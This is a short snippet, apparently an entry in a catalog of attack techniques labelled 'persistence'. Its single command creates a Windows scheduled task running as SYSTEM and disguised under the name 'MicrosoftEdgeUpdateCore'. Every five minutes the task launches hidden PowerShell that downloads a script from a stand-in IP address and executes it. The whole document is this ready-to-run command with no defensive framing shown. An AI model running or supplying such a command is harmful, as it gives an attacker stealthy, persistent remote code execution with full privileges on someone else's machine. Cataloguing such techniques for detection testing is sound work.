# description: Creates a SYSTEM scheduled task that downloads and runs code every five minutes.
# family: persistence
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr "powershell -w hidden -nop -c iex(iwr -UseBasicParsing http://203.0.113.20/u.ps1)" /sc minute /mo 5 /ru SYSTEM /f
